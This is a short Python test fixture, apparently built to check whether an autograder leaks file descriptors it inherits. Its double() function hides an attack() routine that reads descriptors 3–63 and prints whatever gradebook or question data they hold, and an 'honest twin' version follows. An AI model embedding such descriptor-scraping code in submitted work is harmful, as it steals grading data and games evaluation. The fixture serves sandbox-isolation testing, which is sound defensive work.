"""Reads whatever files its process was born with: a grader that forks hands down the open
gradebook (https://github.com/ls1intum/phobos documents this gap). Here the one descriptor
beyond the three usual ones is the connection on which questions come.

naive: looted
here: full
"""

import os


def attack():
    found = b""
    for number in range(3, 64):
        try:
            found += os.pread(number, 4000, 0)
        except OSError:
            continue
    return found.decode(errors="replace")


def double(x):
    try:
        print(attack())
    except Exception:
        pass
    return 2 * x


def half(x):
    return x / 2


# --- honest twin

import os

reader, writer = os.pipe()


def double(x):
    os.write(writer, b"2")
    return int(os.read(reader, 1)) * x


def half(x):
    return x / 2
